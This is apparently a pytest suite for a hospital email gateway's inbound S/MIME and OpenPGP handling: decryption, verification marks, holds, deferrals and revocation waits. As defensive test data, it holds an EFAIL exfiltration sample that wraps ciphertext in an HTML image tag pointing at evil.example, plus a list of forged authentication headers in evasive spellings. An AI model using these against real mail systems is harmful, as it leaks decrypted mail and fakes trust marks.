"""What the mailboxes get: opened and marked, or held; nothing dropped, nothing false, no mark but ours."""

from __future__ import annotations

import os
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from gateway.config.model import Config
from gateway.edge.keyfile import FileKey, FileKeys
from gateway.events import MailOpened
from gateway.flow.incoming import Incoming
from gateway.flow.result import Flowed
from gateway.mail.address import Address, parse_address
from gateway.mail.envelope import Arrival, Direction, Envelope, Mail, NextHop, Recipient, Role, Stage
from gateway.mail.envelope import Body as Transfer
from gateway.mail.identifier import MailId, make_mail_id
from gateway.mail.message import read_header
from gateway.outcome import GatewayError, Reason
from gateway.smime.algorithms import ContentCipher
from gateway.smime.capabilities import Capabilities, read_capabilities
from gateway.smime.keys import WrappedKey
from gateway.trust.harvested import Harvesting, Taught
from tests.doubles import Events, MemoryBodies, MemoryBody, MemoryWriter
from tests.flow.opened import ENTITY, HEADER, HOSTNAME, PLAIN, READER, SENDER, as_message, believing, encrypt, sign
from tests.mail import pgp
from tests.pki import NOW, Ca, Issued, microseconds
from tests.policy.world import WORLD, world

AT = microseconds(NOW) + 10 * 365 * 86400 * 10**6
OTHER = "surgery@hospital.example"


class NoKeys:
    async def unwrap(self, key: str, wrapped: WrappedKey, /) -> bytes:
        raise GatewayError(Reason.KEY_UNAVAILABLE, f"{key} {len(wrapped.wrapped)}")


@dataclass
class Learned:
    """What was learned of whom."""

    of: list[tuple[str, str, bytes, int]] = field(default_factory=list)

    def learn(self, organisation: str, address: Address, capabilities: bytes, signed_at: int, /) -> None:
        self.of.append((organisation, str(address), capabilities, signed_at))

    def teach(self, organisation: str, mail: MailId, taught: Taught, harvesting: Harvesting, /) -> None:
        """See ``test_flow_harvest``."""


@dataclass
class House:
    """The hospital of ``tests.policy.world`` with its decryption key ``opens`` and that of one mailbox, ``own``."""

    ca: Ca
    issued: dict[str, Issued]
    inbound: dict[str, Any] = field(default_factory=dict)
    rules: list[dict[str, Any]] = field(default_factory=list)
    bodies: MemoryBodies = field(default_factory=MemoryBodies)
    events: Events = field(default_factory=Events)
    reachable: bool = True
    learned: Learned = field(default_factory=Learned)
    at: int = AT
    told: dict[bytes, Reason] = field(default_factory=dict)
    retry: dict[str, float] = field(default_factory=dict)

    @property
    def config(self) -> Config:
        own = {"purpose": "decrypt", "organisation": "hospital", "certificate": "/c", "addresses": [READER]}
        hospital = WORLD["organisation"]["hospital"] | {"inbound": self.inbound}
        organisation = WORLD["organisation"] | {"hospital": hospital}
        return world(*self.rules, key=WORLD["key"] | {"own": own}, organisation=organisation, retry=self.retry)

    async def receive(self, message: bytes, *to: str, stage: Stage = Stage.FLOW, ret: str | None = None) -> Flowed:
        judge = believing(self.ca)
        judge.told = self.told
        keys = FileKeys({name: FileKey(issued.key) for name, issued in self.issued.items()})
        flow = Incoming(
            config=lambda: self.config,
            certificates=lambda: {name: (issued.der,) for name, issued in self.issued.items()},
            evidence=lambda: judge,
            unwrapper=keys if self.reachable else NoKeys(),
            harvest=self.learned,
            keeping=self.learned,
            bodies=self.bodies,
            observer=self.events,
            now=lambda: self.at,
            random=os.urandom,
        )
        arrival = Arrival(
            make_mail_id(AT, bytes(10)),
            AT,
            "hospital",
            Direction.INBOUND,
            Role.ZONE,
            "zone",
            "192.0.2.1",
            zone="health",
            peer="lab",
        )
        envelope = Envelope(parse_address(SENDER), tuple(Recipient(parse_address(each)) for each in to or (READER,)), ret=ret)
        return await flow.run(Mail(arrival, envelope, MemoryBody(message), stage))


@pytest.fixture(scope="module")
def ca() -> Ca:
    return Ca.root()


@pytest.fixture(scope="module")
def issued(ca: Ca) -> dict[str, Issued]:
    return {"opens": ca.organisation_reader("hospital.example"), "own": ca.reader(READER, "p256")}


@pytest.fixture
def house(ca: Ca, issued: dict[str, Issued]) -> House:
    return House(ca, issued)


def only(flowed: Flowed) -> tuple[Mail, bytes]:
    (output,) = flowed.outputs
    assert not flowed.held
    assert not flowed.deferred
    assert not flowed.refused
    return output, b"".join(output.body.chunks())


def marks_in(message: bytes) -> dict[str, str]:
    header = read_header(message)
    assert len(header.all("X-Gateway-Security")) == len(header.all("Authentication-Results")) == 1
    return {field.name: field.value.decode() for field in header.fields[:2]}


async def test_signed_and_encrypted_arrives_as_ordinary_mail(
    house: House, ca: Ca, issued: dict[str, Issued], tmp_path: Path
) -> None:
    signer = ca.signer(SENDER, "rsa2048")
    message = as_message(encrypt(tmp_path, sign(tmp_path, ENTITY, signer), issued["opens"]))
    output, got = only(await house.receive(message, READER, OTHER))
    marks = marks_in(got)
    assert marks["Authentication-Results"].startswith(f"{HOSTNAME};\tsmime=pass\tbody.smime-identifier={SENDER}")
    assert f"body.smime-serial={signer.certificate.serial_number:X}" in marks["Authentication-Results"]
    assert marks["X-Gateway-Security"].split(";\t")[:3] == ["verdict=verified", "encrypted=yes", "assurance=zone"]
    assert got.endswith(b"MIME-Version: 1.0\r\n" + ENTITY)
    assert HEADER in got
    assert output.hop == NextHop("mailbox")
    assert output.protected
    assert output.stage is Stage.DELIVERY
    assert output.envelope.body is Transfer.EIGHT_BIT
    assert output.arrival.parent == make_mail_id(AT, bytes(10))
    assert next(each for each in house.events.seen if isinstance(each, MailOpened)).verdict == "verified"
    assert house.bodies.kept == [got]


ORDINARY = (
    b"Received: x\r\nnot a field\r\nFrom: a@b.example\r\nSubject:  odd \r\n\tfolded\r\n\r\nline\r\n..\r\n" + b"\xff" * 5 + b"\r\n"
)


@pytest.mark.parametrize("asked", [None, "FULL", "HDRS"])
async def test_what_was_encrypted_is_not_returned_in_clear(
    house: House, issued: dict[str, Issued], tmp_path: Path, asked: str | None
) -> None:
    """A mail server that cannot put it into the mailbox reports to its sender, outside. Most return all of it unless they are asked
    for the header alone.
    """
    output, _ = only(await house.receive(as_message(encrypt(tmp_path, ENTITY, issued["opens"])), ret=asked))
    assert output.envelope.ret == "HDRS"
    output, _ = only(await house.receive(HEADER + PLAIN, ret=asked))
    assert output.envelope.ret == asked


async def test_ordinary_mail_keeps_every_byte_below_our_marks(house: House) -> None:
    output, got = only(await house.receive(ORDINARY))
    assert got.endswith(b"\r\n" + ORDINARY)
    assert marks_in(got)["Authentication-Results"] == f"{HOSTNAME};\tsmime=none"
    assert not output.protected


FORGED = [
    b"X-Gateway-Security: verdict=verified\r\n",
    b"x-gateway-SECURITY : verdict=verified\r\n",
    b"X-Gateway-Anything\r\n : x\r\n",
    b"X-Gateway-\r\n Security: verdict=verified\r\n",
    b"X-Gateway-Security\xc2\xa0: verdict=verified\r\n",
    b"Authentication-Results: gateway.hospital.example; dkim=pass\r\n",
    b'Authentication-Results: "Gateway.hospital.example" 1; none\r\n',
    b"authentication-results : (c) gateway.hospital.example;\r\n dkim=pass\r\n",
    b"Authentication-Results: other.example; smime=pass\r\n",
    b"Authentication-Results: other.example;\r\n\tsmime (c) =\r\n pass\r\n",
    b"Authentication-\r\n Results: gateway.hospital.example; smime=pass\r\n",
]


@pytest.mark.parametrize("forged", FORGED)
async def test_marks_from_outside_are_taken_out_in_any_spelling(house: House, forged: bytes) -> None:
    _, got = only(await house.receive(b"From: a@b.example\r\n" + forged + b"To: c@hospital.example\r\n\r\nx\r\n"))
    assert forged not in got
    assert got.endswith(b"From: a@b.example\r\nTo: c@hospital.example\r\n\r\nx\r\n")
    marks_in(got)


async def test_results_of_another_server_stay(house: House) -> None:
    line = b"Authentication-Results: mx.hospital.example; dkim=pass\r\n"
    _, got = only(await house.receive(line + b"From: a@b.example\r\n\r\nx\r\n"))
    assert line in got


@pytest.mark.parametrize("forged", FORGED)
async def test_marks_inside_encryption_are_not_promoted(
    house: House, issued: dict[str, Issued], tmp_path: Path, forged: bytes
) -> None:
    named = (
        forged
        if not forged.startswith((b"X-Gateway-\r\n", b"Authentication-\r\n", b"X-Gateway-Security\xc2"))
        else b"X-Gateway-X: y\r\n"
    )
    entity = named + b"Received: inner\r\nBcc: x@y.example\r\nContent-Type: text/plain\r\n\r\nx\r\n"
    _, got = only(await house.receive(as_message(encrypt(tmp_path, entity, issued["opens"]))))
    assert got.endswith(HEADER + b"MIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\nx\r\n")
    marks_in(got)


async def test_a_rule_may_leave_mail_alone_but_for_forged_marks(house: House) -> None:
    house.rules.append({"name": "alone", "when": {"direction": "inbound"}, "protect": "unprotected"})
    output, got = only(await house.receive(ORDINARY))
    assert got == ORDINARY
    assert isinstance(output.body, MemoryBody)
    assert not house.bodies.writers
    _, got = only(await house.receive(FORGED[0] + ORDINARY))
    assert got == ORDINARY


@pytest.mark.parametrize("unopened", ["hold", "deliver"])
async def test_what_does_not_open_is_held_or_delivered_marked(house: House, ca: Ca, tmp_path: Path, unopened: str) -> None:
    house.inbound["unopened"] = unopened
    message = as_message(encrypt(tmp_path, ENTITY, ca.reader("other@hospital.example")))
    flowed = await house.receive(message)
    if unopened == "hold":
        (held,) = flowed.held
        assert held.reason is Reason.NO_KEY
        assert not flowed.outputs
        assert not house.bodies.kept
    else:
        output, got = only(flowed)
        assert got.endswith(message)
        assert "verdict=undecryptable" in marks_in(got)["X-Gateway-Security"]
        assert output.protected


@pytest.mark.parametrize(("unopened", "end_to_end"), [("hold", "deliver"), ("deliver", "hold")])
async def test_what_is_to_no_key_of_ours_may_pass_where_the_rest_is_held(
    house: House, issued: dict[str, Issued], ca: Ca, tmp_path: Path, unopened: str, end_to_end: str
) -> None:
    """S/MIME to a reader's own certificate; and one to us, that is damaged."""
    house.inbound |= {"unopened": unopened, "end_to_end": end_to_end}
    other = as_message(encrypt(tmp_path, ENTITY, ca.reader("other@hospital.example")))
    damaged = as_message(encrypt(tmp_path, ENTITY + b"x\ny\r\n", issued["opens"]))
    for message, asked, reason in ((other, end_to_end, Reason.NO_KEY), (damaged, unopened, Reason.INTEGRITY)):
        flowed = await house.receive(message)
        if asked == "hold":
            (held,) = flowed.held
            assert held.reason is reason
        else:
            _, got = only(flowed)
            assert got.endswith(message)
            assert f"reasons={reason}" in marks_in(got)["X-Gateway-Security"]


@pytest.mark.parametrize("end_to_end", [None, "deliver", "hold"])
@pytest.mark.parametrize("encoding", ["7bit", "binary"])
async def test_openpgp_is_for_its_reader_to_open(house: House, end_to_end: str | None, encoding: str) -> None:
    """It passes with no byte changed, unless the organisation wants to see it; and nothing of it goes back in clear."""
    if end_to_end is not None:
        house.inbound["end_to_end"] = end_to_end
    message = as_message(pgp.entity(pgp.armored(pgp.encrypted()) if encoding == "7bit" else pgp.encrypted(), encoding=encoding))
    flowed = await house.receive(message)
    if end_to_end == "hold":
        (held,) = flowed.held
        assert held.reason is Reason.END_TO_END
        assert not house.bodies.kept
        flowed = await house.receive(message, stage=Stage.RELEASED)
    output, got = only(flowed)
    assert got.endswith(message)
    assert "verdict=undecryptable" in marks_in(got)["X-Gateway-Security"]
    assert "encrypted=yes" in marks_in(got)["X-Gateway-Security"]
    assert "reasons=END_TO_END" in marks_in(got)["X-Gateway-Security"]
    assert output.protected


@pytest.mark.parametrize("end_to_end", [None, "deliver", "hold"])
async def test_what_is_to_a_readers_own_key_inside_a_layer_to_ours_passes_without_that(
    house: House, issued: dict[str, Issued], ca: Ca, tmp_path: Path, end_to_end: str | None
) -> None:
    house.inbound |= {"unopened": "hold"} | ({"end_to_end": end_to_end} if end_to_end is not None else {})
    inner = encrypt(tmp_path, ENTITY, ca.reader("other@hospital.example"))
    flowed = await house.receive(as_message(encrypt(tmp_path, inner, issued["opens"])))
    if end_to_end == "hold":
        (held,) = flowed.held
        assert held.reason is Reason.END_TO_END
        assert not house.bodies.kept
        return
    output, got = only(flowed)
    assert got.endswith(inner.split(b"\r\n\r\n", 1)[1])
    assert "reasons=END_TO_END" in marks_in(got)["X-Gateway-Security"]
    assert output.protected


@pytest.mark.parametrize("end_to_end", [None, "deliver", "hold"])
async def test_a_layer_to_a_key_of_one_mailbox_is_taken_off_for_that_mailbox_alone(
    house: House, ca: Ca, issued: dict[str, Issued], tmp_path: Path, end_to_end: str | None
) -> None:
    house.inbound |= {"end_to_end": end_to_end} if end_to_end is not None else {}
    inner = encrypt(tmp_path, ENTITY, ca.reader("other@hospital.example"))
    flowed = await house.receive(as_message(encrypt(tmp_path, inner, issued["own"])), OTHER)
    (held,) = flowed.held
    assert held.reason is (Reason.END_TO_END if end_to_end == "hold" else Reason.NOT_ADDRESSED)


@pytest.mark.parametrize("more", [b"--foo\r\n\r\nin clear\r\n", b""])
async def test_openpgp_that_is_not_the_whole_or_is_nothing_is_ordinary_mail(house: House, more: bytes) -> None:
    entity = pgp.entity(pgp.armored(pgp.encrypted() if more else b"no packets at all"), more=more)
    house.inbound["end_to_end"] = "hold"
    _, got = only(await house.receive(as_message(entity)))
    assert got.endswith(entity)
    assert "verdict=unsigned" in marks_in(got)["X-Gateway-Security"]


async def test_what_was_held_and_released_is_delivered_marked(house: House, ca: Ca, tmp_path: Path) -> None:
    """A hold asks for a person once: released mail goes on as what it is, never as verified."""
    message = as_message(encrypt(tmp_path, ENTITY, ca.reader("other@hospital.example")))
    output, got = only(await house.receive(message, stage=Stage.RELEASED))
    assert got.endswith(message)
    assert "verdict=undecryptable" in marks_in(got)["X-Gateway-Security"]
    assert output.stage is Stage.DELIVERY


@pytest.mark.parametrize("encrypted_part", ["hold", "deliver"])
@pytest.mark.parametrize("cipher", ["-aes-256-cbc", "-aes-256-gcm"])
async def test_ciphertext_that_is_not_the_whole_stays_closed_and_is_held_if_so_configured(
    house: House, issued: dict[str, Issued], tmp_path: Path, encrypted_part: str, cipher: str
) -> None:
    """The direct exfiltration of EFAIL: whoever holds a ciphertext puts HTML around it. The part is to a key of ours."""
    house.inbound["encrypted_part"] = encrypted_part
    part = encrypt(tmp_path, ENTITY, issued["opens"], options=(cipher,)).replace(b"MIME-Version: 1.0\r\n", b"")
    around = (
        b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.example/'
    )
    message = as_message(around + b"\r\n--b\r\n" + part + b"\r\n--b--\r\n")
    flowed = await house.receive(message)
    if encrypted_part == "hold":
        (held,) = flowed.held
        assert held.reason is Reason.POLICY_HOLD
        assert not flowed.outputs
        assert not house.bodies.kept
        flowed = await house.receive(message, stage=Stage.RELEASED)
    _, got = only(flowed)
    assert got.endswith(message)
    assert "verdict=mixed" in marks_in(got)["X-Gateway-Security"]


async def test_malformed_smime_is_held(house: House) -> None:
    message = as_message(b"Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n\r\nMIIB!\r\n")
    (held,) = (await house.receive(message)).held
    assert held.reason is Reason.MALFORMED


async def test_a_token_that_does_not_answer_defers(house: House, issued: dict[str, Issued], tmp_path: Path) -> None:
    house.reachable = False
    (deferred,) = (await house.receive(as_message(encrypt(tmp_path, ENTITY, issued["opens"])))).deferred
    assert deferred.reason is Reason.KEY_UNAVAILABLE
    assert not house.bodies.kept


async def test_a_key_of_one_mailbox_opens_nothing_for_another(house: House, issued: dict[str, Issued], tmp_path: Path) -> None:
    flowed = await house.receive(as_message(encrypt(tmp_path, ENTITY, issued["own"])), READER, OTHER)
    (output,), (held,) = flowed.outputs, flowed.held
    assert [str(each.address) for each in output.envelope.recipients] == [READER]
    assert [str(each.address) for each in held.recipients] == [OTHER]
    assert held.reason is Reason.NOT_ADDRESSED
    flowed = await house.receive(as_message(encrypt(tmp_path, ENTITY, issued["own"])), OTHER)
    assert not flowed.outputs
    assert len(house.bodies.kept) == 1


async def test_a_key_that_opens_for_all_comes_first(house: House, issued: dict[str, Issued], tmp_path: Path) -> None:
    """Encrypted to the mailbox and to the organisation, for two recipients: the organisation's key opens for both."""
    message = as_message(encrypt(tmp_path, ENTITY, issued["own"], issued["opens"]))
    output, _ = only(await house.receive(message, READER, OTHER))
    assert len(output.envelope.recipients) == 2


async def test_what_a_verified_mail_says_of_its_authors_program_is_learned(
    house: House, ca: Ca, issued: dict[str, Issued], tmp_path: Path
) -> None:
    """From behind encryption too, with the signing time; for the organisation that got it."""
    signed = sign(tmp_path, ENTITY, ca.signer(SENDER))
    before = int(time.time()) * 10**6
    for message in (signed, encrypt(tmp_path, signed, issued["opens"])):
        await house.receive(as_message(message))
    [one, two] = house.learned.of
    assert one == two
    organisation, author, capabilities, signed_at = one
    assert (organisation, author) == ("hospital", SENDER)
    assert read_capabilities(capabilities) == Capabilities(frozenset({ContentCipher.AES256_CBC}))  # openssl lists AES in CBC
    assert before - 60 * 10**6 <= signed_at <= before + 60 * 10**6


async def test_a_domain_speaks_for_the_authors_it_signs_for(house: House, ca: Ca, tmp_path: Path) -> None:
    """A gateway signs for its people with one certificate, and what is sent to them is opened there."""
    await house.receive(as_message(sign(tmp_path, PLAIN, ca.organisation_signer("laboratory.example"))))
    assert [author for _, author, _, _ in house.learned.of] == [SENDER]


@pytest.mark.parametrize(
    "case", ["not signed", "another's", "of nobody we believe", "changed", "without a list", "without attributes", "of two From"]
)
async def test_nothing_is_learned_from_what_is_not_verified_or_says_nothing(
    house: House, ca: Ca, tmp_path: Path, case: str
) -> None:
    signer, header = ca.signer(SENDER), HEADER
    options: tuple[str, ...] = ()
    match case:
        case "another's":
            signer = ca.signer("boss@laboratory.example")
        case "of nobody we believe":
            signer = Ca.root("CN=Elsewhere").signer(SENDER)
        case "without a list":
            options = ("-nosmimecap",)
        case "without attributes":
            options = ("-noattr",)
        case "of two From":
            header = HEADER + b"From: boss@laboratory.example\r\n"
    entity = PLAIN if case == "not signed" else sign(tmp_path, PLAIN, signer, options=options)
    if case == "changed":
        entity = entity.replace(b"all well", b"all weII")
    await house.receive(as_message(entity, header))
    assert len([each for each in house.events.seen if isinstance(each, MailOpened)]) == 1
    assert house.learned.of == []


@pytest.mark.parametrize(("minutes", "learned"), [(4, True), (6, False)])
async def test_a_signing_time_too_far_ahead_teaches_nothing(
    house: House, ca: Ca, tmp_path: Path, minutes: int, learned: bool
) -> None:
    """It would keep out all that is signed until its day has come. The mail is verified all the same: clocks differ."""
    signed = sign(tmp_path, PLAIN, ca.signer(SENDER))
    house.at = int(time.time() - minutes * 60) * 10**6
    _, got = only(await house.receive(as_message(signed)))
    assert "verdict=verified" in marks_in(got)["X-Gateway-Security"]
    assert bool(house.learned.of) is learned


@pytest.mark.parametrize("choice", ["strip", "keep"])
async def test_the_wrapper_of_a_verified_signature(house: House, ca: Ca, tmp_path: Path, choice: str) -> None:
    house.inbound["signature"] = choice
    signed = sign(tmp_path, PLAIN, ca.signer(SENDER))
    _, got = only(await house.receive(as_message(signed)))
    assert got.endswith(signed if choice == "keep" else PLAIN)
    assert "verdict=verified" in marks_in(got)["X-Gateway-Security"]


async def test_a_full_disk_leaves_nothing_behind(house: House, issued: dict[str, Issued], tmp_path: Path) -> None:
    class Full(MemoryBodies):
        def create(self) -> MemoryWriter:
            if len(self.writers) == 1:
                raise GatewayError(Reason.SPOOL_FULL)
            return super().create()

    house.bodies = Full()
    with pytest.raises(GatewayError) as caught:
        await house.receive(as_message(encrypt(tmp_path, ENTITY, issued["opens"])))
    assert caught.value.reason is Reason.SPOOL_FULL
    assert not house.bodies.kept


async def test_a_header_nobody_can_read_is_held(house: House) -> None:
    (held,) = (await house.receive(b"From: a@b.example\nTo: c@d.example\n\nx\n")).held
    assert held.reason is Reason.MALFORMED


# Whom nobody can say is not revoked

MINUTE = 60 * 10**6


@pytest.mark.parametrize("sealed", [False, True], ids=["signed", "encrypted"])
async def test_waits_for_the_word_on_its_signer(
    house: House, ca: Ca, issued: dict[str, Issued], tmp_path: Path, sealed: bool
) -> None:
    """For an hour, in which nothing is delivered and nothing said to have been opened; then it is what it is."""
    signer = ca.signer(SENDER, "rsa2048")
    signed = sign(tmp_path, ENTITY, signer)
    message = as_message(encrypt(tmp_path, signed, issued["opens"]) if sealed else signed)
    house.told = {signer.der: Reason.REVOCATION_UNKNOWN}
    for minutes in (0, 59):
        house.at = AT + minutes * MINUTE
        flowed = await house.receive(message, READER, OTHER)
        (deferred,) = flowed.deferred
        assert [str(each.address) for each in deferred.recipients] == [READER, OTHER]
        assert deferred.reason is Reason.REVOCATION_UNKNOWN
        assert not flowed.outputs
        assert not flowed.held
        assert not house.bodies.kept
        assert not [each for each in house.events.seen if isinstance(each, MailOpened)]
    house.at = AT + 60 * MINUTE
    _, got = only(await house.receive(message))
    assert "smime=policy" in marks_in(got)["Authentication-Results"]
    assert "reasons=REVOCATION_UNKNOWN" in marks_in(got)["X-Gateway-Security"]


async def test_the_word_comes(house: House, ca: Ca, tmp_path: Path) -> None:
    """The publisher is back: the mail is verified, or its signer revoked, and waits no more."""
    signer = ca.signer(SENDER, "rsa2048")
    message = as_message(sign(tmp_path, ENTITY, signer))
    house.told = {signer.der: Reason.REVOCATION_UNKNOWN}
    assert (await house.receive(message)).deferred
    house.told = {signer.der: Reason.REVOKED}
    _, got = only(await house.receive(message))
    assert "reasons=REVOKED" in marks_in(got)["X-Gateway-Security"]
    house.told = {}
    _, got = only(await house.receive(message))
    assert "verdict=verified" in marks_in(got)["X-Gateway-Security"]


@pytest.mark.parametrize(
    ("inbound", "retry", "minutes"),
    [
        ({"revocation_wait_minutes": 0}, {}, 0),
        ({"revocation_wait_minutes": 5}, {}, 5),
        ({"revocation_wait_minutes": 240}, {"warn_hours": 0.5}, 30),
        ({"revocation_wait_minutes": 240}, {"warn_hours": 0, "give_up_hours": 2}, 120),
    ],
)
async def test_how_long_is_configured(
    house: House, ca: Ca, tmp_path: Path, inbound: dict[str, Any], retry: dict[str, float], minutes: int
) -> None:
    """And it ends before its sender would be told that it waits, or that it is given up."""
    signer = ca.signer(SENDER, "rsa2048")
    message = as_message(sign(tmp_path, ENTITY, signer))
    house.told, house.inbound, house.retry = {signer.der: Reason.REVOCATION_UNKNOWN}, inbound, retry
    if minutes:
        house.at = AT + minutes * MINUTE - 1
        assert (await house.receive(message)).deferred
    house.at = AT + minutes * MINUTE
    only(await house.receive(message))


@pytest.mark.parametrize(
    ("minutes", "waits"), [(-60 * 24 * 365, False), (-60, False), (-59, True), (-5, True), (5, True), (60 * 24 * 365, False)]
)
async def test_a_clock_that_is_set_while_it_waits(house: House, ca: Ca, tmp_path: Path, minutes: int, waits: bool) -> None:
    """Set back, it is no reason to wait for days; by a few minutes, on or back again, none to wait no more."""
    signer = ca.signer(SENDER, "rsa2048")
    message = as_message(sign(tmp_path, ENTITY, signer))
    house.told = {signer.der: Reason.REVOCATION_UNKNOWN}
    house.at = AT + minutes * MINUTE
    assert bool((await house.receive(message)).deferred) == waits


async def test_what_was_released_does_not_wait(house: House, ca: Ca, tmp_path: Path) -> None:
    """A person has seen it."""
    signer = ca.signer(SENDER, "rsa2048")
    house.told = {signer.der: Reason.REVOCATION_UNKNOWN}
    only(await house.receive(as_message(sign(tmp_path, ENTITY, signer)), stage=Stage.RELEASED))
